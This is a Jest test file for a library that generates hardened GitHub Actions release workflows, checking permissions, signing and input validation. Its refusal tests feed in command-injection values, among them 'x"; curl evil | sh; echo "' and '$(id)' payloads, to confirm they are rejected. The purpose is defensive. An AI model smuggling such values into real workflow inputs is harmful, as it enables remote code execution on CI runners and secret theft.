import { JsonPatch } from 'cdk8s';
import { GitOpsApp, ReleaseWorkflow } from '../../../lib';
import { ManifestTree } from '../../../lib/manifests';
import { checkTree, RULES } from '../../../lib/policy';
import { actionlint } from '../../support/actionlint';
import { shellcheck, testWithShellcheck } from '../../support/shellcheck';
import { fleet, type Parsed, parsed, step, steps, workflows, workflowsIn } from './fleet';

const FORMS = {
  'a repository per service': {},
  'a monorepo': { monorepo: 'services/{service}', autoMerge: ['staging', 'prod'] },
  'no attestations of GitHub, and another registry': {
    provenance: false,
    image: 'registry.example.com:5000/shop/{service}',
    repositories: { 'svc-a': 'org/the-first' },
    serviceRepository: 'org/service-{service}',
    platforms: ['linux/amd64', 'linux/arm64'],
    contracts: ['npx buf breaking --against ".git#branch=main"', "echo 'it''s: done' | tee \"$HOME/x\""],
  },
};

describe.each(Object.entries(FORMS))('the workflows of %s', (_, props) => {
  const texts = workflows(props);
  const all = [...texts.keys()].map((path) => parsed(texts, path.split('/').at(-1)!));
  const release = parsed(texts, 'release.yml');

  test('are sound to actionlint', () => {
    expect(actionlint(texts)).toBe('');
  });

  testWithShellcheck('have scripts that are sound to shellcheck', () => {
    for (const { name, run } of all.flatMap(steps))
      if (run !== undefined) expect([name, shellcheck(run)]).toEqual([name, '']);
  });

  test('have no expression in any script, and each script stops at the first failure', () => {
    const scripts = all.flatMap(steps).flatMap(({ run }) => run ?? []);
    expect(scripts.length).toBeGreaterThan(10);
    for (const run of scripts) {
      expect(run).not.toContain('${{');
      expect(run.startsWith('set -euo pipefail\n')).toBe(true);
    }
  });

  test('have no right but those that a job names', () => {
    for (const workflow of all) {
      expect(workflow.permissions).toEqual({});
      for (const job of Object.values(workflow.jobs)) expect(job.permissions).toBeDefined();
    }
  });

  test('end: every job that runs steps has a time', () => {
    for (const { jobs } of all)
      for (const job of Object.values(jobs))
        if (job.uses === undefined) expect(job['timeout-minutes']).toBeLessThanOrEqual(30);
  });

  test('leave no token in a checkout', () => {
    const checkouts = all.flatMap(steps).filter(({ uses }) => uses?.startsWith('actions/checkout@'));
    expect(checkouts.length).toBeGreaterThan(2);
    for (const { with: inputs } of checkouts) expect(inputs?.['persist-credentials']).toBe(false);
  });

  test('give a right to write to nobody who runs code of a service or of a pull request', () => {
    const ofOthers = /npm ci|npm test|docker\/build-push-action/;
    for (const { jobs } of all)
      for (const job of Object.values(jobs)) {
        if (!ofOthers.test(JSON.stringify(job.steps ?? []))) continue;
        const { contents, packages, ...others } = job.permissions;
        expect(contents).toBe('read');
        expect(others).toEqual({});
        if (packages !== undefined) expect(job.name).toBe('Image');
      }
  });

  test('let nobody but the signing job ask for an identity', () => {
    const identities = Object.entries(release.jobs).filter(
      ([, { permissions }]) => permissions['id-token'] === 'write',
    );
    expect(identities.map(([name]) => name)).toEqual(['sign']);
    const signing = release.jobs.sign!.steps.map(({ uses }) => uses ?? '').join(' ');
    expect(signing).not.toMatch(/checkout|setup-node|build-push/);
  });

  test('deploy what was verified, after it was verified', () => {
    const { validate, test: tests, image, sign, verify, deploy } = release.jobs;
    expect(validate?.needs).toBeUndefined();
    expect(tests?.needs).toEqual(['validate']);
    expect(image?.needs).toContain('test');
    expect(sign?.needs).toContain('image');
    expect(verify?.needs).toContain('sign');
    expect(deploy?.needs).toContain('verify');
    expect(deploy?.env?.IMAGE).toBe('${{ needs.verify.outputs.image }}');
    expect(image?.outputs?.digest).toBe('${{ steps.push.outputs.digest }}');
    expect(sign?.env?.DIGEST).toBe('${{ needs.image.outputs.digest }}');
    expect(verify?.env?.DIGEST).toBe(sign?.env?.DIGEST);
  });

  test('sign and verify a digest, and never a tag', () => {
    const scripts = [...release.jobs.sign!.steps, ...release.jobs.verify!.steps].flatMap(({ run }) => run ?? []);
    const named = scripts.flatMap((run) => [...run.matchAll(/"(?:oci:\/\/)?(\$NAME[^"]*)"/g)].map(([, name]) => name));
    expect(new Set(named)).toEqual(new Set(['$NAME@$DIGEST']));
    expect(scripts.join('')).toContain(
      'cosign verify --certificate-identity "$IDENTITY" --certificate-oidc-issuer "$ISSUER"',
    );
  });

  test('cut no release off, and release each service by itself', () => {
    expect(release.concurrency).toEqual({
      group: 'release-${{ inputs.service }}-${{ inputs.environment }}',
      'cancel-in-progress': false,
    });
  });

  test('bring no finding but that actions stand at tags', () => {
    const { findings } = checkTree(new ManifestTree(texts), { rules: RULES.filter(({ family }) => family === 'text') });
    expect([...new Set(findings.map(({ rule }) => rule))]).toEqual(['workflow-pins']);
  });

  test('are the same bytes each time', () => {
    expect([...workflows(props)]).toEqual([...texts]);
  });
});

describe('what a service has', () => {
  test('is a caller of some ten lines, which hands over the one secret', () => {
    const texts = workflows();
    const caller = parsed(texts, 'caller.yml');
    expect(texts.get('docs/release/caller.yml')).toMatchSnapshot();
    expect(caller.jobs.release).toMatchObject({
      uses: 'org/gitops/.github/workflows/release.yml@main',
      with: { service: 'svc-a' },
      secrets: { RELEASE_APP_PRIVATE_KEY: '${{ secrets.RELEASE_APP_PRIVATE_KEY }}' },
    });
  });

  test('in a monorepo is a caller each, which a push to its folder starts', () => {
    const texts = workflows({ monorepo: 'services/{service}/' });
    expect([...texts.keys()].sort()).toEqual([
      '.github/workflows/check.yml',
      '.github/workflows/release-svc-a.yml',
      '.github/workflows/release-svc-b.yml',
      '.github/workflows/release.yml',
    ]);
    const caller = parsed(texts, 'release-svc-b.yml');
    expect(caller.on).toEqual({ push: { branches: ['main'], paths: ['services/svc-b/**'] }, workflow_dispatch: {} });
    expect(caller.jobs.release).toMatchObject({ uses: './.github/workflows/release.yml', with: { service: 'svc-b' } });
  });

  test('gives the called jobs no less than they take', () => {
    const order = ['read', 'write'];
    for (const props of Object.values(FORMS)) {
      const texts = workflows(props);
      const name = 'monorepo' in props ? 'release-svc-a.yml' : 'caller.yml';
      const given = parsed(texts, name).jobs.release!.permissions;
      for (const { permissions } of Object.values(parsed(texts, 'release.yml').jobs))
        for (const [right, level] of Object.entries(permissions))
          expect(order.indexOf(given[right] ?? '')).toBeGreaterThanOrEqual(order.indexOf(level));
    }
  });
});

describe('a pull request of the GitOps repository', () => {
  const check: Parsed = parsed(workflows(), 'check.yml');

  test('is rendered, checked, compared with what is committed, and reviewed', () => {
    const scripts = check.jobs.check!.steps.flatMap(({ run }) => run ?? []).join('');
    const commands = [...scripts.matchAll(/npx release-train (\w+)/g)].map(([, name]) => name);
    expect(commands).toEqual(['synth', 'check', 'publish', 'diff', 'diff']);
    expect(scripts).toContain('>> "$GITHUB_STEP_SUMMARY"');
  });

  test('gets a comment from a job that runs none of its code', () => {
    expect(check.jobs.comment!.permissions).toEqual({ 'pull-requests': 'write' });
    expect(check.jobs.comment!.steps.map(({ uses }) => uses?.split('@')[0])).toEqual([
      'actions/download-artifact',
      undefined,
    ]);
    expect(check.jobs.check!.permissions).toEqual({ contents: 'read' });
  });
});

test('npx installs nothing where the tools of the fleet are, nor where a pull request is rendered', () => {
  const texts = workflows();
  for (const { jobs } of [parsed(texts, 'release.yml'), parsed(texts, 'check.yml')])
    for (const { steps: all, env } of Object.values(jobs))
      if (all.some(({ run }) => run?.includes('npx release-train'))) expect(env?.NPM_CONFIG_YES).toBe('false');
});

describe('the pull request of a release', () => {
  test('is opened with the token of a GitHub App, which bears two rights in one repository', () => {
    const release = parsed(workflows({ appId: 'BOT_ID', appPrivateKey: 'BOT_KEY' }), 'release.yml');
    expect(step(release, 'deploy', 'Right to open the pull request').with).toEqual({
      'app-id': '${{ vars.BOT_ID }}',
      'private-key': '${{ secrets.BOT_KEY }}',
      owner: 'org',
      repositories: 'gitops',
      'permission-contents': 'write',
      'permission-pull-requests': 'write',
    });
    const tokens = release.jobs.deploy!.steps.filter(({ env }) => env?.GH_TOKEN !== undefined);
    expect(tokens.map(({ name }) => name)).toEqual(['Open the pull request']);
  });

  test('merges by itself only in environments that are named', () => {
    const named = (props: object) =>
      step(parsed(workflows(props), 'release.yml'), 'deploy', 'Open the pull request').run;
    expect(named({})).not.toContain('--auto');
    expect(named({ autoMerge: ['staging'] })).toContain('gh pr merge "$url" --auto --squash');
  });
});

test('the whole release workflow', () => {
  expect(workflows().get('.github/workflows/release.yml')).toMatchSnapshot();
});

test('the whole check workflow', () => {
  expect(workflows().get('.github/workflows/check.yml')).toMatchSnapshot();
});

test('a patch changes a workflow where no property does', () => {
  const app = fleet();
  const workflow = new ReleaseWorkflow(app, 'workflow');
  workflow.addJsonPatch('release', JsonPatch.replace('/jobs/test/timeout-minutes', 90));
  workflow.addJsonPatch('check', JsonPatch.add('/on/merge_group', {}));
  const texts = workflowsIn(app);
  expect(parsed(texts, 'release.yml').jobs.test!['timeout-minutes']).toBe(90);
  expect(parsed(texts, 'check.yml').on).toEqual({ pull_request: {}, merge_group: {} });
});

test('the identity is the path and the branch of the workflow', () => {
  const workflow = new ReleaseWorkflow(fleet('git@github.com:Org/gitops.git'), 'workflow', { branch: 'release/next' });
  expect(workflow.identity).toBe('https://github.com/Org/gitops/.github/workflows/release.yml@refs/heads/release/next');
  expect(workflow.image).toBe('ghcr.io/org/{service}');
});

describe('what is refused', () => {
  function refusal(props: object, app = fleet()): string {
    new ReleaseWorkflow(app, 'workflow', props);
    try {
      app.render();
    } catch (error) {
      return (error as Error).message;
    }
    return 'nothing was refused';
  }

  const PWN = 'x"; curl evil | sh; echo "';
  test.each([
    ['repository', { repository: PWN }],
    ['branch', { branch: PWN }],
    ['branch', { branch: '${{ github.head_ref }}' }],
    ['branch', { branch: 'a..b' }],
    ['monorepo', { monorepo: 'services/$(id)/{service}' }],
    ['monorepo', { monorepo: '../{service}' }],
    ['monorepo', { monorepo: 'services' }],
    ['serviceRepository', { serviceRepository: 'org/{service}; id' }],
    ['repositories', { repositories: { 'svc-a': PWN } }],
    ['repositories', { repositories: { 'svc-a) id;; *': 'org/x' } }],
    ['image', { image: 'ghcr.io/org/{service}:latest' }],
    ['image', { image: 'ghcr.io/org/$(id)-{service}' }],
    ['image', { image: 'ghcr.io/org/all' }],
    ['platforms', { platforms: ['linux/amd64,${{ x }}'] }],
    ['test', { test: ['echo ${{ github.event.issue.title }}'] }],
    ['test', { test: [] }],
    ['contracts', { contracts: [' '] }],
    ['install', { install: 'npm ci\u0000' }],
    ['nodeVersion', { nodeVersion: '22\nrun: id' }],
    ['runner', { runner: '${{ inputs.runner }}' }],
    ['environment', { environment: PWN }],
    ['autoMerge', { autoMerge: ['prod) id;;'] }],
    ['appId', { appId: 'A }}-${{ secrets.B' }],
    ['appPrivateKey', { appPrivateKey: 'GITHUB_TOKEN' }],
    ['pins', { pins: {} }],
    ['registry', { registry: 'ghcr.io' }],
  ])('%s that would be something else in a script, a path or an expression', (name, props) => {
    expect(refusal(props)).toContain(`workflow: ${name}: `);
  });

  test('an expression in a command, with what to write instead', () => {
    expect(refusal({ test: ['make VERSION=${{ inputs.version }}'] })).toContain(
      'workflow: test: "make VERSION=${{ inputs.version }}" has an expression of GitHub, whose value would become a part of the script; let the command read a variable, such as "$GITHUB_SHA"',
    );
  });

  test('names that the fleet does not have', () => {
    expect(refusal({ environment: 'qa', autoMerge: ['stagin'], repositories: { 'svc-c': 'org/c' } })).toBe(
      [
        '3 problems in the fleet; nothing was written.',
        '',
        'workflow: environment: there is no environment qa; there are staging, prod',
        'workflow: autoMerge: there is no environment stagin; there are staging, prod',
        'workflow: repositories: there is no service svc-c',
      ].join('\n'),
    );
  });

  test('repositories of services in a monorepo', () => {
    expect(refusal({ monorepo: '{service}', serviceRepository: 'org/{service}' })).toContain(
      'workflow: serviceRepository: in a monorepo the services have no repositories of their own; leave it or monorepo out',
    );
  });

  test('a repository elsewhere than on GitHub, and a fleet without environments', () => {
    const app = new GitOpsApp({ repository: 'https://gitlab.com/org/gitops' });
    expect(refusal({}, app)).toBe(
      [
        '2 problems in the fleet; nothing was written.',
        '',
        'workflow: repository: "https://gitlab.com/org/gitops" is no repository on github.com, where these workflows run; give repository: \'owner/name\'',
        'workflow: there is no Environment that something could be released to; add one',
      ].join('\n'),
    );
  });
});
